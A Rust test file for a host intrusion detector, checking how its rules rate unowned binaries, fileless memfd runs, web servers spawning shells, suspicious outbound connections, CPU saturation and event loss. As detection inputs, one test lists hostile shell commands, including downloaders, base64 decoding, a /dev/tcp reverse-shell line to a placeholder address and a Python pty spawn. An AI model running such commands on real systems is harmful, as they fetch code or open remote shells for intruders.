//! What each rule says, and what it leaves alone.

use crate::{
    detect::testing::{
        BOOT_UNIX_S, Bench, SECOND, argv, child_of, file_id, kernel_thread, key, memfd, said, web,
    },
    incident::{FindingType, Severity},
    input::{Exec, Loss, Observed, ProcessKey, Throttled},
    output::Change,
};

const T: u64 = 10 * SECOND + 1;
const INIT: ProcessKey = ProcessKey {
    tgid: 1,
    start_ns: 0,
};

use FindingType::*;
use Severity::{Info, Warning};

#[test]
fn a_packaged_program_says_nothing() {
    let mut bench = Bench::new();
    bench.run(INIT, key(900, T), "/usr/bin/id");
    bench.second();
    assert_eq!(said(&mut bench), []);
}

#[test]
fn an_unowned_program_of_an_administrator_is_info() {
    let mut bench = Bench::new();
    child_of(&mut bench, INIT, "/opt/app/bin/server", |_| {});
    bench.unowned("/opt/app/bin/server");
    assert_eq!(said(&mut bench), [(NewBinary, Info)]);
    assert_eq!(bench.incidents(), []);
}

#[test]
fn an_unowned_program_below_a_web_service_is_a_warning() {
    let mut bench = Bench::new();
    let web = web(&mut bench);
    child_of(&mut bench, web, "/opt/tool", |_| {});
    bench.unowned("/opt/tool");
    assert_eq!(said(&mut bench), [(NewBinary, Warning)]);
}

#[test]
fn an_unowned_web_service_that_starts_its_workers_is_info() {
    let mut bench = Bench::new();
    let node = key(800, T);
    bench.run(INIT, node, "/usr/local/bin/node");
    child_of(&mut bench, node, "/usr/local/bin/node", |_| {});
    bench.unowned("/usr/local/bin/node");
    assert_eq!(bench.incidents(), []);
}

#[test]
fn a_fresh_program_of_a_service_account_is_a_warning() {
    let mut bench = Bench::new();
    child_of(&mut bench, INIT, "/opt/tool", |exec| {
        exec.uid = 33;
        exec.executable.id.ctime_sec = BOOT_UNIX_S;
    });
    let mut id = file_id("/opt/tool");
    id.ctime_sec = BOOT_UNIX_S;
    bench.file(&crate::detect::testing::facts(
        id,
        "/opt/tool",
        crate::input::Owner::Unowned,
    ));
    assert_eq!(said(&mut bench), [(NewBinary, Warning)]);
}

#[test]
fn a_program_is_fresh_for_ten_minutes() {
    for (age_s, expected) in [(599, Warning), (600, Info)] {
        let mut bench = Bench::new();
        let mut id = file_id("/opt/tool");
        // It is executed ten seconds after boot.
        id.ctime_sec = BOOT_UNIX_S + 10 - age_s;
        child_of(&mut bench, INIT, "/opt/tool", |exec| {
            exec.uid = 33;
            exec.executable.id = id;
        });
        bench.file(&crate::detect::testing::facts(
            id,
            "/opt/tool",
            crate::input::Owner::Unowned,
        ));
        assert_eq!(said(&mut bench), [(NewBinary, expected)], "{age_s} s");
    }
}

#[test]
fn a_package_manager_excuses_what_it_runs() {
    let mut bench = Bench::new();
    let apt = key(800, T);
    bench.run(INIT, apt, "/usr/bin/dpkg");
    child_of(
        &mut bench,
        apt,
        "/var/www/x/wp-content/uploads/setup",
        |_| {},
    );
    bench.unowned("/var/www/x/wp-content/uploads/setup");
    assert_eq!(
        said(&mut bench),
        [(NewBinary, Info), (FromWritableDir, Info)]
    );
}

#[test]
fn a_program_that_calls_itself_dpkg_excuses_nothing() {
    let mut bench = Bench::new();
    let fake = key(800, T);
    bench.run(INIT, fake, "/home/x/dpkg");
    child_of(
        &mut bench,
        fake,
        "/var/www/x/wp-content/uploads/setup",
        |_| {},
    );
    bench.unowned("/var/www/x/wp-content/uploads/setup");
    assert_eq!(
        said(&mut bench),
        [(NewBinary, Warning), (FromWritableDir, Warning)]
    );
}

#[test]
fn a_script_in_an_upload_folder_below_a_web_service_is_a_warning() {
    let mut bench = Bench::new();
    let web = web(&mut bench);
    child_of(
        &mut bench,
        web,
        "/var/www/x/wp-content/uploads/a.sh",
        |exec| {
            exec.interpreter = Some(b"/bin/sh".as_slice().into());
            exec.name = b"dash".as_slice().into();
            exec.executable.id = file_id("/bin/dash");
        },
    );
    bench.packaged("/bin/dash");
    assert_eq!(
        said(&mut bench),
        [(NewScript, Warning), (WebServerSpawnedShell, Info)]
    );
}

#[test]
fn a_memfd_needs_no_facts_and_is_conclusive_below_a_web_service() {
    let mut bench = Bench::new();
    let web = web(&mut bench);
    let child = key(900, T + 1_000);
    bench.fork(web, child);
    bench.exec(&memfd(child, web, "x"));
    let incidents = bench.incidents();
    let (change, incident) = incidents.first().expect("at once");
    assert_eq!(
        (*change, incident.severity),
        (Change::Opened, Severity::Critical)
    );
    assert_eq!(said(&mut bench), [(Fileless, Warning)]);
}

#[test]
fn a_container_runtimes_own_memfd_is_info() {
    let mut bench = Bench::new();
    let child = key(900, T);
    bench.exec(&memfd(child, INIT, "runc_cloned:/proc/self/exe"));
    assert_eq!(said(&mut bench), [(Fileless, Info)]);
}

#[test]
fn a_deleted_program_is_a_warning_live_and_info_after_an_upgrade() {
    let deleted = |exec: &mut Exec| exec.executable.nlink = 0;
    let mut bench = Bench::new();
    child_of(&mut bench, INIT, "/opt/x", deleted);
    assert_eq!(said(&mut bench), [(DeletedExecutable, Warning)]);
    let mut bench = Bench::new();
    child_of(&mut bench, INIT, "/usr/sbin/mariadbd", |exec| {
        deleted(exec);
        exec.observed = Observed::Snapshot;
    });
    assert_eq!(said(&mut bench), [(DeletedExecutable, Info)]);
}

#[test]
fn a_person_who_compiles_in_tmp_is_info() {
    let mut bench = Bench::new();
    child_of(&mut bench, INIT, "/tmp/build/conftest", |exec| {
        exec.uid = 1_000;
        exec.loginuid = Some(1_000);
    });
    bench.unowned("/tmp/build/conftest");
    assert_eq!(
        said(&mut bench),
        [(NewBinary, Info), (FromWritableDir, Info)]
    );
}

#[test]
fn a_relative_path_is_judged_when_facts_tell_where_it_is() {
    let mut bench = Bench::new();
    let child = child_of(&mut bench, INIT, "./x", |exec| exec.uid = 33);
    assert_eq!(said(&mut bench), []);
    bench.unit(child, "/dev/shm/x", "shop.service", "www-data");
    assert_eq!(said(&mut bench), [(FromWritableDir, Warning)]);
}

#[test]
fn a_web_service_that_runs_a_shell_is_info_and_with_a_downloader_a_warning() {
    let mut bench = Bench::new();
    let web = web(&mut bench);
    child_of(&mut bench, web, "/bin/sh", |exec| {
        argv(exec, &["sh", "-c", "sendmail -t"]);
    });
    assert_eq!(said(&mut bench), [(WebServerSpawnedShell, Info)]);
    for command in [
        "cd /tmp; wget http://x/y",
        "curl http://x/y",
        "echo eA== | base64 -d",
        "chmod +x y",
        "exec 3<>/dev/tcp/192.0.2.1/4444",
        "nohup ./y",
        "python3 -c 'import pty; pty.spawn(1)'",
    ] {
        let mut bench = Bench::new();
        let web = self::web(&mut bench);
        child_of(&mut bench, web, "/bin/sh", |exec| {
            argv(exec, &["sh", "-c", command]);
        });
        assert_eq!(
            said(&mut bench),
            [(WebServerSpawnedShell, Warning)],
            "{command}"
        );
    }
}

#[test]
fn a_suspect_that_talks_outside_is_a_finding_and_inside_is_not() {
    for (ip, expected) in [
        ([10, 0, 0, 5], vec![(NewBinary, Info)]),
        (
            [45, 9, 148, 1],
            vec![(NewBinary, Info), (NewDestination, Info)],
        ),
    ] {
        let mut bench = Bench::new();
        let child = child_of(&mut bench, INIT, "/opt/app", |_| {});
        bench.unowned("/opt/app");
        bench.connect(child, ip, 443, true);
        assert_eq!(said(&mut bench), expected);
    }
}

#[test]
fn a_connection_made_before_the_verdict_is_not_forgotten() {
    let mut bench = Bench::new();
    let web = web(&mut bench);
    let child = child_of(&mut bench, web, "/opt/tool", |_| {});
    bench.connect(child, [45, 9, 148, 1], 3_333, false);
    assert_eq!(said(&mut bench), []);
    bench.unowned("/opt/tool");
    assert_eq!(
        said(&mut bench),
        [(NewBinary, Warning), (NewDestination, Warning)]
    );
}

#[test]
fn the_default_share_for_ten_seconds_is_saturation_and_a_burst_is_not() {
    let mut bench = Bench::new();
    let of = key(900, T);
    bench.run(INIT, of, "/usr/bin/convert");
    bench.burn(6, &[(of, 2 * SECOND)]);
    bench.burn(10, &[(of, 0)]);
    assert_eq!(said(&mut bench), []);
    bench.burn(10, &[(of, SECOND)]);
    assert_eq!(said(&mut bench), [(CpuSaturation, Warning)]);
    let incidents = bench.incidents();
    assert_eq!(incidents[0].1.severity, Warning);
}

#[test]
fn a_kernel_thread_can_be_the_culprit_and_is_never_enriched() {
    let mut bench = Bench::new();
    let of = key(30, T);
    for second in 1..=11 {
        bench.load = vec![kernel_thread(of, second * 2 * SECOND)];
        bench.second();
    }
    assert_eq!(said(&mut bench), [(CpuSaturation, Warning)]);
    assert_eq!(bench.requests(), Vec::<&crate::output::Enrich>::new());
}

#[test]
fn processes_of_one_executable_are_blamed_together() {
    let mut bench = Bench::new();
    let root = key(800, T);
    let workers = [key(801, T + 1), key(802, T + 2)];
    bench.run(INIT, root, "/usr/sbin/php-fpm8.2");
    for worker in workers {
        bench.fork(root, worker);
    }
    bench.burn(11, &[(workers[0], SECOND / 2), (workers[1], SECOND / 2)]);
    let incidents = bench.incidents();
    let (_, incident) = incidents.last().expect("half of two CPUs");
    let crate::incident::Evidence::Cpu(cpu) = incident.findings[0].evidence else {
        panic!("{incident:?}");
    };
    assert_eq!(cpu.culprit, crate::incident::Culprit::Executable);
    assert!((cpu.host_share - 0.5).abs() < 0.01, "{cpu:?}");
}

#[test]
fn those_who_wait_are_named_even_in_the_culprits_own_group() {
    let mut bench = Bench::new();
    let (web, miner, db) = (key(800, T), key(900, T + 1), key(700, T));
    bench.run(INIT, web, "/usr/sbin/php-fpm8.2");
    bench.run(web, miner, "/usr/bin/busy");
    bench.run(INIT, db, "/usr/sbin/mariadbd");
    for _ in 0..12 {
        for of in [web, db] {
            if let Some(task) = bench.load.iter_mut().find(|task| task.pid == of.tgid) {
                task.run_delay_ns += SECOND * 6 / 10;
            }
        }
        bench.burn(
            1,
            &[
                (miner, 19 * SECOND / 10),
                (web, SECOND * 2 / 100),
                (db, SECOND * 2 / 100),
            ],
        );
    }
    let incidents = bench.incidents();
    let (_, incident) = incidents.last().expect("saturated");
    let mut victims: Vec<&str> = incident
        .victims
        .iter()
        .map(|victim| &*victim.name)
        .collect();
    victims.sort_unstable();
    assert_eq!(victims, ["mariadbd", "php-fpm8.2"]);
    assert!(
        incident
            .victims
            .iter()
            .all(|victim| victim.run_delay_share > 0.9)
    );
}

#[test]
fn loss_is_a_finding_and_lowers_the_confidence_of_what_it_overlaps() {
    let confidence = |lossy: bool| {
        let mut bench = Bench::new();
        if lossy {
            bench.losses = vec![Loss {
                class: "exec_dropped",
                count: 12,
            }];
        }
        bench.second();
        child_of(&mut bench, INIT, "/opt/x", |exec| exec.executable.nlink = 0);
        let findings = bench.findings().len();
        bench.second();
        let incidents = bench.incidents();
        let (_, incident) = incidents.first().expect("deleted");
        (
            findings,
            incident.confidence,
            incident.loss.clone().map(|loss| loss.losses),
        )
    };
    assert_eq!(confidence(false), (0, 0.7, None));
    let losses = vec![Loss {
        class: "exec_dropped",
        count: 12,
    }];
    assert_eq!(confidence(true), (1, 0.56, Some(losses)));
}

#[test]
fn what_a_cgroup_lost_by_flooding_lowers_the_confidence_of_its_own_incidents_alone() {
    // An incident in cgroup 7, open when execs of `cgroup_id` were throttled, or opened after that.
    let seen = |cgroup_id: u64, before: bool| {
        let mut bench = Bench::new();
        let lose = |bench: &mut Bench| {
            let loss = |count| Loss {
                class: "exec_throttled",
                count,
            };
            bench.losses = vec![loss(12)];
            bench.throttled = vec![Throttled {
                cgroup_id,
                cgroup: None,
                losses: vec![loss(if cgroup_id == 0 { 0 } else { 12 })],
                unbilled_ns: 0,
            }];
            bench.second();
        };
        if before {
            lose(&mut bench);
        }
        let process = child_of(&mut bench, INIT, "/opt/x", |exec| {
            exec.executable.nlink = 0;
            exec.cgroup_id = Some(7);
        });
        bench.second();
        if !before {
            lose(&mut bench);
            // It is told with the next news: the end.
            bench.exit(process, 0);
            for _ in 0..600 {
                bench.second();
            }
        }
        let incidents = bench.incidents();
        let (_, incident) = incidents.last().expect("deleted");
        incident.confidence
    };
    assert_eq!([7, 8].map(|of| seen(of, true)), [0.56, 0.7]);
    assert_eq!([7, 8].map(|of| seen(of, false)), [0.56, 0.7]);
    // Whose they were is not known: they may be anybody's.
    assert_eq!(seen(0, true), 0.56);
}
